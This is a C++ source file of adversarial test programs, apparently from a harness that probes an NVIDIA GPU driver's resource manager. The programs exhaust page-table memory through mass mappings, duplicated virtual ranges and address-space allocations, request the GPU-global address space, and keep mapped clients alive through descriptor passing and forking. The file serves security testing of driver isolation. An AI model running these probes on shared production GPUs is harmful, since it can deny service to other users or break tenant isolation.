// Attacks by GPU mappings that RM makes itself: page tables, which nobody asked for.
#include <sys/socket.h>
#include <unistd.h>

#include "common.h"
#include "rm/vidmem.h"

namespace cgpu::adversary {
namespace {

constexpr std::uint64_t kBase = std::uint64_t{1} << 40;

// A range anywhere in an address space, the device's if none is named.
std::uint32_t MakeRange(Client& client, std::uint32_t space = 0) {
  const std::uint32_t range = client.next++;
  rm::NV_MEMORY_VIRTUAL_ALLOCATION_PARAMS params{};
  params.limit = (std::uint64_t{1} << 47) - 1;
  params.hVASpace = space;
  if (client.Alloc(Client::kDevice, range, rm::NV01_MEMORY_VIRTUAL, &params, sizeof(params)) !=
      rm::NV_OK) {
    Die("no range of addresses");
  }
  return range;
}

// One small object at every second MiB, until refused or `mib` MiB of tables are there.
std::uint64_t Spread(const Client& client, std::uint32_t range, std::uint32_t memory,
                     std::uint64_t mib) {
  const std::uint64_t wanted = mib * kMiB / rm::kPage4K;
  std::uint64_t tables = 0;
  while (tables < wanted &&
         MapAt(client, range, memory, kBase + tables * rm::kPageHuge) == rm::NV_OK) {
    ++tables;
  }
  return tables;
}

int DmaTables(const std::vector<std::string>& args) {
  Client client = MakeClient();
  std::uint32_t memory = 0;
  if (client.AllocMemory(1, &memory) != rm::NV_OK) {
    Die("no memory");
  }
  const std::uint64_t mib = Number(args, 0, 24);
  const std::uint64_t tables = Spread(client, MakeRange(client), memory, mib);
  Say("tables %llu", static_cast<unsigned long long>(tables));
  Hold();
  return 0;
}

// The same: and everything can be had again, whether the range goes or the memory.
int DmaTablesAgain(const std::vector<std::string>& args) {
  Client client = MakeClient();
  const std::uint64_t mib = Number(args, 0, 24);
  std::uint32_t memory = 0;
  std::uint32_t range = MakeRange(client);
  for (int turn = 0; turn < 3; ++turn) {
    if (memory == 0 && client.AllocMemory(1, &memory) != rm::NV_OK) {
      Die("no memory");
    }
    const std::uint64_t tables = Spread(client, range, memory, mib);
    Say("tables %llu", static_cast<unsigned long long>(tables));
    if (turn == 0) {
      if (client.Free(range) != rm::NV_OK) {
        Die("cannot free the range");
      }
      range = MakeRange(client);
    } else if (turn == 1) {
      if (client.Free(memory) != rm::NV_OK) {
        Die("cannot free the memory");
      }
      memory = 0;
    }
  }
  Hold();
  return 0;
}

// Intervals of addresses, which have their tables from the start, and whose duplicates keep them.
int Intervals(const std::vector<std::string>& args) {
  const std::uint64_t wanted = Number(args, 0, 24) * kMiB;
  Client client = MakeClient();
  Client keeper = MakeClient();
  constexpr std::uint64_t kLength = std::uint64_t{1} << 30;  // 2 MiB of tables
  std::uint64_t tables = 0;
  while (tables < wanted) {
    const std::uint32_t handle = client.next++;
    rm::NV_MEMORY_ALLOCATION_PARAMS params{};
    params.size = kLength;
    params.flags = rm::NVOS32_ALLOC_FLAGS_VIRTUAL;
    if (client.Alloc(Client::kDevice, handle, rm::NV50_MEMORY_VIRTUAL, &params, sizeof(params)) !=
        rm::NV_OK) {
      break;
    }
    if (keeper.Dup(client.root, handle, keeper.next++) != rm::NV_OK ||
        client.Free(handle) != rm::NV_OK) {
      Die("cannot hand the interval on");
    }
    tables += kLength / rm::kPageHuge * rm::kPage4K;
  }
  Say("tables %llu", static_cast<unsigned long long>(tables / rm::kPage4K));
  Hold();
  return 0;
}

// Address spaces, which have their first tables from the start.
int Spaces(const std::vector<std::string>& args) {
  constexpr std::uint64_t kTables = 3;  // of each, on Turing to Ada
  const std::uint64_t wanted = Number(args, 0, 24) * kMiB / (kTables * rm::kPage4K);
  Client client = MakeClient();
  std::uint64_t spaces = 0;
  rm::NV_VASPACE_ALLOCATION_PARAMETERS_V535 params{};
  while (spaces < wanted &&
         client.Alloc(Client::kDevice, client.next++, rm::FERMI_VASPACE_A, &params) == rm::NV_OK) {
    ++spaces;
  }
  Say("tables %llu", static_cast<unsigned long long>(spaces * kTables));
  Hold();
  return 0;
}

// Asks for the address space that a GPU has for all clients, in one of three ways, and maps memory
// where the driver likes: in a space that is shared that depends on what others have there.
int Global(const std::vector<std::string>& args) {
  const std::string& how = args.at(0);
  Client client = MakeRoot();
  client.gpu = OpenGpu(-1);
  rm::NV0080_ALLOC_PARAMETERS device{};  // hClientShare 0
  device.hClientShare = how == "index" ? client.root : 0;
  void* const given = how == "bare" ? nullptr : &device;
  std::uint32_t status = client.Alloc(client.root, Client::kDevice, rm::NV01_DEVICE_0, given,
                                      given != nullptr ? sizeof(device) : 0);
  std::uint32_t space = 0;
  if (status == rm::NV_OK && how == "index") {
    space = client.next++;
    rm::NV_VASPACE_ALLOCATION_PARAMETERS_V535 params{};
    params.index = rm::NV_VASPACE_ALLOCATION_INDEX_GPU_GLOBAL;
    status = client.Alloc(Client::kDevice, space, rm::FERMI_VASPACE_A, &params);
  }
  std::uint32_t memory = 0;
  if (status != rm::NV_OK || client.AllocMemory(1, &memory) != rm::NV_OK) {
    Say("refused 0x%x", status);
    Hold();
    return 0;
  }
  rm::NVOS46_PARAMETERS_V535 map{};
  map.hClient = client.root;
  map.hDevice = Client::kDevice;
  map.hDma = MakeRange(client, space);
  map.hMemory = memory;
  map.length = kMiB;
  if (client.issue(client.ctl, rm::NV_ESC_RM_MAP_MEMORY_DMA, &map, sizeof(map)) != 0 ||
      map.status != rm::NV_OK) {
    Die("failed: not mapped: 0x%x", map.status);
  }
  Say("share 0x%x", device.hClientShare);
  Say("address 0x%llx", static_cast<unsigned long long>(map.dmaOffset));
  Hold();
  return 0;
}

// Leaves a client whose memory a processor sees, so that the end of its file must end it.
int Leaves(const std::vector<std::string>& args) {
  constexpr std::uint64_t kMib = 4;
  const std::string way = args.empty() ? "exits" : args[0];
  if (way == "forks" && fork() != 0) {
    Hold();
    return 0;
  }
  const Client client = [] {
    Client made = MakeClient();
    std::uint32_t memory = 0;
    if (made.AllocMemory(kMib, &memory) != rm::NV_OK ||
        made.Map(memory, kMib * kMiB) != rm::NV_OK) {
      Die("failed: nothing is mapped");
    }
    return made;
  }();
  int pair[2] = {-1, -1};
  if (way == "closes") {
    close(client.ctl);
  } else if (way == "moves") {
    const int moved = dup(client.ctl);
    close(client.ctl);
    Say("moved");
    std::string line;
    (void)Line(&line);
    close(moved);
  } else if (way == "parks") {
    if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair) != 0) {
      Die("failed: no socketpair");
    }
    SendFd(pair[0], client.ctl);
    close(client.ctl);
    close(pair[0]);
  } else if (way == "registers") {
    rm::nv_ioctl_register_fd_t registered{client.ctl};
    if (Plainly(OpenGpu(), rm::NV_ESC_REGISTER_FD, &registered, sizeof(registered)) != 0) {
      Die("failed: not registered");
    }
    close(client.ctl);
  } else if (way == "forks" && fork() != 0) {
    _exit(0);  // a child has the file that has made no call
  }
  Say("mapped");
  Hold();
  return 0;
}

}  // namespace

std::vector<Entry> MappingAttacks() {
  return {
      {"global", Global, "share|bare|index"},
      {"dma-tables", DmaTables, "[MIB]"},
      {"dma-tables-again", DmaTablesAgain, "[MIB]"},
      {"intervals", Intervals, "[MIB]"},
      {"leaves", Leaves, "exits|closes|moves|parks|registers|forks"},
      {"spaces", Spaces, "[MIB]"},
  };
}

}  // namespace cgpu::adversary
